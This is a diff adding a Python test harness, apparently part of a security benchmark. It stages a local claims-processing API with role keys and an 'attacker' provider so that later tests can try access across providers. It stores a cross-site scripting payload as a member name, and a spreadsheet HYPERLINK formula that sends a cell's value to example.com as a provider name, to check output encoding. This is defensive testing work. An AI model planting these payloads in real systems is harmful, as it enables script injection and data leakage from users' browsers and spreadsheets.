@@ -1,0 +1,163 @@
+"""The platform that is attacked: two providers with a claim each, a key of every role that attacks, and what exists."""
+
+import json
+import os
+import re
+import subprocess
+import sys
+from collections.abc import Iterator, Mapping, Sequence
+from contextlib import contextmanager
+from dataclasses import dataclass
+from typing import Any, Final
+
+import httpx
+
+from benchmarks.platform import COMMAND, create_key, free_routes, platform
+from benchmarks.stage import ReportProgress, Stage, staged
+
+ROLES: Final = ("admin", "claims_system", "investigator", "monitoring")
+"""Whose keys the attacks use beside a provider's."""
+HISTORY: Final = 3_000
+LIVE: Final = 200
+TREES: Final = 30
+REQUEST_S: Final = 30.0
+HOSTILE_NAME: Final = '"><svg/onload=alert(1)><script>alert(2)</script>\u0027-alert(3)-\u0027'
+"""Stored in every text that the API accepts; a page must show it as text."""
+FORMULA_NAME: Final = '=HYPERLINK("http://example.com/"&A1,"click")'
+
+
+@dataclass(frozen=True, slots=True)
+class Operation:
+    """One operation of the API's description."""
+
+    method: str
+    path: str
+    queries: tuple[str, ...]
+    media_type: str | None
+    """Of the body; `None`: it has none."""
+
+    def __str__(self) -> str:
+        return f"{self.method} {self.path}"
+
+    @property
+    def names(self) -> list[str]:
+        """Parameters of the path."""
+        return re.findall(r"\{(\w+)\}", self.path)
+
+    def at(self, values: Mapping[str, str]) -> str:
+        """The path with values for its parameters."""
+        path = self.path
+        for name in self.names:
+            path = path.replace(f"{{{name}}}", values[name])
+        return path
+
+
+@dataclass(frozen=True, slots=True)
+class Scene:
+    """What an attack has at hand."""
+
+    port: int
+    """Of the API on the loopback address."""
+    client: httpx.Client
+    keys: Mapping[str, str]
+    """Secrets by role; `provider` is the attacker, whose claim is `own`."""
+    operations: Sequence[Operation]
+    own: Mapping[str, Any]
+    """A claim of the attacking provider, as submitted."""
+    foreign: Mapping[str, str]
+    """By name of the path's parameter: ids of things that exist and belong to others."""
+    other_provider: str
+
+    def send(self, method: str, path: str, role: str | None = None, **more: Any) -> httpx.Response:
+        """Send a request with the key of a role; none: without a key."""
+        headers = dict(more.pop("headers", {}))
+        if role is not None:
+            headers = {"Authorization": f"Bearer {self.keys[role]}"} | headers
+        return self.client.request(method, path, headers=headers, **more)
+
+
+@contextmanager
+def scene(report: ReportProgress) -> Iterator[Scene]:
+    """A platform with data to attack, on free ports; removed with the block."""
+    with (
+        staged(report, claims=HISTORY, live_claims=LIVE, trees=TREES) as stage,
+        platform(stage, free_routes()) as running,
+        httpx.Client(base_url=f"http://127.0.0.1:{running.routes.api_port}", timeout=REQUEST_S) as client,
+    ):
+        report("submitting claims to attack")
+        bodies = [json.loads(body) for body in running.bodies()]
+        own = bodies[0]
+        other = next(body for body in bodies if body["provider_id"] != own["provider_id"])
+        keys = {role: create_key(stage, role) for role in ROLES}
+        keys["provider"] = _provider_key(stage, own["provider_id"])
+        yield set_scene(client, running.routes.api_port, keys, own, other)
+
+
+def set_scene(
+    client: httpx.Client, port: int, keys: Mapping[str, str], own: Mapping[str, Any], other: Mapping[str, Any]
+) -> Scene:
+    """Submit a claim of the attacking provider and one of another, and create what there is to attack.
+
+    `keys` are secrets of admin, claims system, investigator, monitoring, and of the provider of `own`.
+    """
+
+    def created(method: str, path: str, body: object, role: str = "admin") -> dict[str, Any]:
+        headers = {"Authorization": f"Bearer {keys[role]}"}
+        response = client.request(method, path, json=body, headers=headers)
+        if response.status_code not in (200, 201, 202):
+            raise RuntimeError(f"{method} {path} answered {response.status_code}: {response.text}")
+        answer: dict[str, Any] = response.json()
+        return answer
+
+    claim = created("POST", "/v1/claims", other, "claims_system")
+    created("POST", "/v1/claims", own, "claims_system")
+    file = {"format": "csv", "size": 10, "sha256": "ab" * 32}
+    member = {"member_id": "M-ATTACKED", "name": HOSTILE_NAME, "birth_date": "1980-03-02", "plan_id": "PL1"}
+    member |= {"first_day": "2026-01-01"}
+    created("POST", "/v1/members", {**member, "plan_id": _plan(client, keys["admin"])})
+    provider = {"provider_id": "H-ATTACKED", "name": FORMULA_NAME, "first_day": "2026-01-01"}
+    specialty = client.get("/v1/providers?limit=1", headers={"Authorization": f"Bearer {keys['admin']}"}).json()
+    provider |= {"specialty": rows(specialty)[0]["specialty"]}
+    created("POST", "/v1/providers", provider)
+    foreign = {
+        "claim_id": claim["claim_id"],
+        "job_id": created("POST", "/v1/bulk/claims", file, "claims_system")["job_id"],
+        "member_id": "M-ATTACKED",
+        "provider_id": "H-ATTACKED",
+        "version": "1",
+    }
+    description = client.get("/openapi.json").json()
+    return Scene(port, client, keys, list(_operations(description)), own, foreign, other["provider_id"])
+
+
+def _plan(client: httpx.Client, key: str) -> str:
+    """Of a member that exists."""
+    listed = client.get("/v1/members?limit=1", headers={"Authorization": f"Bearer {key}"}).json()
+    plan: str = rows(listed)[0]["plan_id"]
+    return plan
+
+
+def rows(listed: Mapping[str, Any]) -> list[dict[str, Any]]:
+    """The items of a page of a list."""
+    return next((value for value in listed.values() if isinstance(value, list)), [])
+
+
+def _provider_key(stage: Stage, provider_id: str) -> str:
+    """Create a key of a provider; returns its secret."""
+    command = ["keys", "create", "--name", "attacker", "--role", "provider", "--provider", provider_id]
+    done = subprocess.run(
+        [sys.executable, *COMMAND, *command],
+        env={**os.environ, **stage.environment},
+        stdout=subprocess.PIPE,
+        stderr=subprocess.DEVNULL,
+        check=True,
+    )
+    return done.stdout.decode().strip()
+
+
+def _operations(description: Mapping[str, Any]) -> Iterator[Operation]:
+    for path, methods in description["paths"].items():
+        for method, described in methods.items():
+            queries = tuple(one["name"] for one in described.get("parameters", ()) if one["in"] == "query")
+            media = next(iter(described.get("requestBody", {}).get("content", {})), None)
+            yield Operation(method.upper(), path, queries, media)
